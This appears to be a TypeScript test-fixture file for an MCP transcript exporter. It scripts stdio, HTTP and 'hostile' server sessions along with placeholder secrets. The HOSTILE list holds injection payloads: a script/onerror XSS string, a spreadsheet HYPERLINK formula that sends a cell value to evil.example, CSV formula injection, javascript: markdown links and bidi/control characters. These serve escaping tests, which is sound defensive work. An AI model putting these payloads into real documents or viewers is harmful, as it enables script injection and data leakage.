import { modernMeta, notification, request, Script } from '@loupe/testkit';
import type { Entry, TargetRecord, TranscriptHeader } from '@loupe/transcript';

/** A transcript to be exported. */
export interface Scenario {
  readonly header: TranscriptHeader;
  readonly entries: readonly Entry[];
}

export function scenario(
  target: TargetRecord,
  write: (script: Script) => void,
  revision = '2025-11-25',
): Scenario {
  const script = new Script();
  write(script);
  const header: TranscriptHeader = {
    loupe: 'transcript',
    version: 1,
    session: 's1',
    started: '2026-01-02T03:04:05.000Z',
    target,
    revision,
    name: 'a scripted session',
    writer: 'mcp-loupe 0.1.0',
  };
  return { header, entries: script.entries };
}

const STDIO: TargetRecord = {
  kind: 'stdio',
  command: ['node', 'server.js', '--api-key', 'sesame-1'],
  env: [['API_KEY', 'hunter2-hunter2']],
};
const URL = 'http://127.0.0.1:1/mcp?key=a%20b&token=secret-token';
const HTTP: TargetRecord = { kind: 'http', url: URL, bearer: 'good-bearer-token' };

/** A whole life over stdio: a JSON-RPC error, a tool failure, an ask with the person's answer, a crash. */
function stdio(): Scenario {
  return scenario(STDIO, (s) => {
    s.opens(4711);
    s.handshake('2025-11-25', { tools: { listChanged: true }, logging: {} });
    s.asks(1, 'tools/list');
    s.answers(1, { tools: [{ name: 'echo', inputSchema: { type: 'object' } }] });
    s.stderr('listening with hunter2-hunter2');
    s.asks(2, 'tools/call', { name: 'echo', arguments: { big: 9007199254740992 } });
    s.received(notification('notifications/message', { level: 'info', data: 'echoing' }));
    s.wait(41.5);
    s.received('{"jsonrpc":"2.0","id":2,"result":{"content":[],"n":1.0,"n":9007199254740993}}');
    s.asks(3, 'tools/call', { name: 'missing' });
    s.wait(3);
    const error = { code: -32602, message: 'Unknown tool: missing' };
    s.received({ jsonrpc: '2.0', id: 3, error });
    s.asks(4, 'tools/call', { name: 'divide', arguments: { by: 0 } });
    s.answers(4, { isError: true, content: [{ type: 'text', text: 'division by zero' }] });
    s.asks(5, 'tools/call', { name: 'book' });
    s.received(
      request('ask-1', 'elicitation/create', { message: 'How many?', requestedSchema: {} }),
    );
    s.wait(2000);
    s.sent({ jsonrpc: '2.0', id: 'ask-1', result: { action: 'accept', content: { n: 2 } } });
    s.answers(5, { content: [{ type: 'text', text: 'booked' }] });
    s.asks(6, 'tools/call', { name: 'hang' });
    s.note('timeout', s.entries.length);
    s.sent(notification('notifications/cancelled', { requestId: 6 }));
    s.answers(99, {});
    s.asks(7, 'tools/call', { name: 'crash' });
    s.stderr('Segmentation fault');
    s.lifecycle('closed', { unexpected: true, signal: 'SIGSEGV', reason: 'The server crashed.' });
  });
}

/** The modern era over Streamable HTTP: an event stream, a JSON body, a listen stream, a refusal, a broken network. */
function streamable(): Scenario {
  const write = (s: Script): void => {
    s.lifecycle('opening');
    s.lifecycle('open');
    const meta = { _meta: modernMeta('2026-07-28') };
    const info = { name: 'modern', version: '2.0', title: 'A modern server' };
    const post = (id: number, method: string, params: object = {}): number => {
      const frame = s.sent(request(id, method, { ...params, ...meta }));
      const headers = [
        ['content-type', 'application/json'],
        ['accept', 'application/json, text/event-stream'],
        ['authorization', 'Bearer good-bearer-token'],
        ['Mcp-Method', method],
      ] as const;
      return s.http('POST', URL, { frame, headers });
    };
    const answer = (exchange: number, id: number, result: object): void => {
      s.response(exchange, 200, 'application/json');
      s.body(exchange, { jsonrpc: '2.0', id, result: { resultType: 'complete', ...result } });
      s.end(exchange);
    };
    answer(post(0, 'server/discover'), 0, {
      supportedVersions: ['2026-07-28'],
      capabilities: { tools: {} },
      ttlMs: 0,
      cacheScope: 'private',
      _meta: { 'io.modelcontextprotocol/serverInfo': info },
    });
    const listen = post(1, 'subscriptions/listen', { notifications: { toolsListChanged: true } });
    s.response(listen, 200, 'text/event-stream');
    s.event(listen, notification('notifications/subscriptions/acknowledged'));
    answer(post(2, 'tools/list'), 2, { tools: [] });
    const call = post(3, 'tools/call', { name: 'count' });
    s.wait(12.25);
    s.response(call, 200, 'text/event-stream');
    s.block(call, ': a comment\n\n');
    s.event(call, notification('notifications/message', { level: 'info', data: 'ÄÖÜ 😀' }));
    s.wait(30);
    s.event(call, { jsonrpc: '2.0', id: 3, result: { resultType: 'complete', content: [] } });
    s.end(call);
    const refused = post(4, 'tools/call', { name: 'admin' });
    s.response(refused, 403, 'text/plain');
    s.body(refused, 'no');
    s.end(refused);
    s.failed(post(5, 'ping'), 'connect ECONNREFUSED 127.0.0.1:1');
    s.add({ kind: 'http', phase: 'end', exchange: listen, aborted: true, tail: 'data: {"cut' });
    const open = post(6, 'tools/call', { name: 'slow' });
    s.response(open, 200, 'text/event-stream');
    s.lifecycle('closed', { reason: 'The person disconnected.' });
  };
  return scenario(HTTP, write, '2026-07-28');
}

/** Texts that mean something to one format or another. */
export const HOSTILE = [
  '</pre></code><script>alert(1)</script><img src=x onerror=alert(1)>',
  '```\n# heading\n````js\n<b>',
  'a | b \\| c \\\\| d\n| new | row |',
  '=HYPERLINK("http://evil.example/?"&A1,"click")',
  '+1\t@SUM(1,1)\r\n-2,"x"',
  'end; C->>S: forged #59; %%{init: {"theme":"x"}}%% --> :wrap: "q"',
  '@everyone #1 https://evil.example [x](javascript:1) ![i](http://evil.example/i)',
  'right\u202Eto-left \u0000\u001b[31m zero\u200Bwidth \uD800 lone 😀',
  '` ``',
  '',
  ' ',
] as const;

/** A server that tries to break out of every format that shows what it says. */
function hostile(): Scenario {
  const [script, fence, pipes, formula, sum, forged, mention, hidden, ticks] = HOSTILE;
  return scenario({ kind: 'stdio', command: ['sh', '-c', script] }, (s) => {
    s.opens(1);
    s.asks(0, 'initialize', { protocolVersion: '2025-11-25', capabilities: {} });
    s.answers(0, {
      protocolVersion: '2025-11-25',
      capabilities: { experimental: { [script]: {} } },
      serverInfo: { name: forged, version: ticks, title: script },
      instructions: fence,
    });
    s.sent(notification('notifications/initialized'));
    for (const [at, text] of HOSTILE.entries()) {
      s.asks(`${at} ${text}`, 'tools/call', { name: text });
      const error = { code: -32000, message: text, data: { [text]: text } };
      s.received({ jsonrpc: '2.0', id: `${at} ${text}`, error });
    }
    s.received(request(formula, pipes, { uri: mention }));
    s.received(notification(forged, { text: hidden }));
    s.received(`${sum}\n${fence}`);
    s.stderr(`${hidden} ${script}`);
    s.stderr(fence.repeat(20));
    s.received(notification('notifications/message', { data: 'long '.repeat(5000) }));
    s.lifecycle('closed', { exitCode: 1, reason: pipes });
  });
}

export const SCENARIOS = { stdio, streamable, hostile };
